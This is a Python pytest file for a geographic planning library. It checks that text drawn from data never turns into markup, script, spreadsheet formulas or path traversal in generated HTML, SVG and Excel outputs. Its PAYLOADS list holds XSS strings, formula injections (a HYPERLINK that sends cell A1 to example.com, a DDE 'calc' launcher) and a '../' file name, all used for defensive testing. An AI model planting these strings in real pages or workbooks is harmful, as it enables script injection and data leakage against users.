"""Every text that comes from data, in every output: a name stays a name on the page, in the workbook and in the file system."""

from __future__ import annotations

from dataclasses import replace
from pathlib import Path
from types import MappingProxyType
from typing import Any

import openpyxl
import pandas as pd
import pytest

import xinhe_geo as xh
from xinhe_geo import maps
from xinhe_geo._drawing.meeting import meeting

TOY = Path(__file__).parent / "toy"
#: Each would set `window.pwned` if a page took it for markup or code, or compute something if a sheet took it for a formula.
PAYLOADS = (
    "<img src=x onerror=\"window.pwned='img'\">",
    "</script><script>window.pwned='script'</script>",
    "'\"><svg onload=\"window.pwned='svg'\">",
    "${window.pwned='template'}`\\\u2028<!--]]>&lt;{{7*7}}",
    '=HYPERLINK("http://example.com/?"&A1,"点我")',
    "+1+1|' /C calc'!A0",
    "@SUM(1+1)*cmd",
    "../../旁边<b>\r\n-2+3",
)
#: What a column may hold is fixed, or it refers to something: a payload there is refused at the door.
CODED = {
    "kind", "kinds", "state", "basis", "community", "zone", "home", "class", "lead", "rule", "set", "metric", "method", "profile",
    "denominator", "confidence", "tags", "not_tags", "decay", "spatial_unit", "binding", "commitment", "role", "operator", "unit",
    "target_from", "scope", "codes", "lines", "near_kinds", "also_rules", "layer", "other_layer", "other_codes", "relation", "weight",
    "combine", "field", "aggregate", "series", "target_series", "needs", "touches", "colour", "year", "target",
}  # fmt: skip


def payload(i: int) -> str:
    return f"{PAYLOADS[i % len(PAYLOADS)]} {i}"


def poisoned(district: xh.District) -> xh.District:
    """Return the district with a payload in every free text, and as the id of every home, facility and community."""
    rows: dict[str, pd.DataFrame] = {}
    ids = {
        key: {old: payload(i) for i, old in enumerate(district.rows[layer].index)}
        for key, layer in (("home", "homes"), ("community", "communities"), ("facility", "facilities"))
    }
    for layer, clean in district.rows.items():
        frame = clean.copy()
        for column in frame.columns:
            if column in ids and column in frame:
                frame[column] = pd.array([ids[column].get(v, v) for v in frame[column]], dtype="object")
            elif column not in CODED | {"geometry"} and frame[column].dtype.kind not in "ifbuM" and len(frame):
                frame[column] = pd.array([payload(i + len(column)) for i in range(len(frame))], dtype="str")
        if frame.index.name in ids:
            frame.index = pd.Index([ids[str(frame.index.name)][v] for v in frame.index], name=frame.index.name)
        rows[layer] = frame
    layers = {
        name: {**entry, "source": PAYLOADS[0], "licence": PAYLOADS[1]}
        for name, entry in district.manifest["layers"].items()
    }
    manifest = {
        **district.manifest,
        "name": PAYLOADS[0],
        "credit": PAYLOADS[1],
        "made_by": PAYLOADS[2],
        "layers": layers,
    }
    return replace(district.with_rows(rows, scenario=PAYLOADS[3]), manifest=MappingProxyType(manifest))


@pytest.fixture(scope="module")
def written(tmp_path_factory: pytest.TempPathFactory) -> Path:
    """Return a folder with everything that is written about the poisoned district."""
    folder = tmp_path_factory.mktemp("poisoned")
    district = poisoned(xh.District.load(TOY))
    later = district.with_rows(
        {**district.rows, "facilities": district.rows["facilities"].iloc[1:]}, scenario=PAYLOADS[3]
    )
    xh.brief(district, folder / "report")
    more = folder / "more"
    more.mkdir()
    for name, drawn in {
        "walkers": maps.walkers(district, "plan_clinic_15"), "difference": maps.difference(district, later),
        "swipe": maps.swipe(district, later, "plan_clinic_15", sides=(PAYLOADS[1], PAYLOADS[3])),
    }.items():  # fmt: skip
        drawn.write(more / f"{name}.html")
        drawn.write(more / f"{name}.svg")
    (more / "meeting.html").write_text(meeting(district), "utf-8")
    return folder


@pytest.mark.slow
@pytest.mark.browser
def test_no_page_takes_data_for_markup_or_code(chromium: Any, written: Path) -> None:
    pages = sorted([*written.rglob("*.html"), *written.rglob("*.svg")])
    assert len(pages) > 10
    for file in pages:
        context = chromium.new_context(viewport={"width": 1366, "height": 768}, offline=True)
        page = context.new_page()
        requests: list[str] = []
        messages: list[str] = []
        page.on("request", lambda request, seen=requests: seen.append(request.url))
        page.on("console", lambda message, seen=messages: seen.append(message.text))
        page.on("pageerror", lambda error, seen=messages: seen.append(str(error)))
        page.goto(file.as_uri())
        page.wait_for_timeout(250)
        assert page.evaluate("window.pwned") is None, file.name
        assert page.evaluate("document.querySelectorAll('img[src=x], svg[onload], [onerror]').length") == 0, file.name
        assert requests == [file.as_uri()] and not messages, (file.name, requests, messages)
        if file.name in ("index.html", "walkers.svg", "difference.svg"):
            assert "onerror=" in page.evaluate("document.documentElement.textContent"), "the name is there, as text"
        if file.suffix == ".html":
            assert page.locator('meta[http-equiv="Content-Security-Policy"]').count() == 1, file.name
        context.close()


@pytest.mark.slow
def test_no_cell_is_a_formula_and_no_file_left_its_folder(written: Path) -> None:
    books = sorted(written.rglob("*.xlsx"))
    assert books
    cells = [
        cell
        for book in books
        for sheet in openpyxl.load_workbook(book)
        for row in sheet.iter_rows()
        for cell in row
        if cell.value
    ]
    assert any("HYPERLINK" in str(cell.value) for cell in cells)
    for cell in cells:
        assert cell.data_type != "f", cell.value
        assert cell.hyperlink is None or "example.com" not in str(cell.hyperlink.target), cell.value
    names = {p.name for p in written.parent.iterdir()}
    assert not [n for n in names if "旁边" in n or "<" in n]
    assert not [p for p in written.rglob("*") if "<" in p.name or "旁边" in p.name]
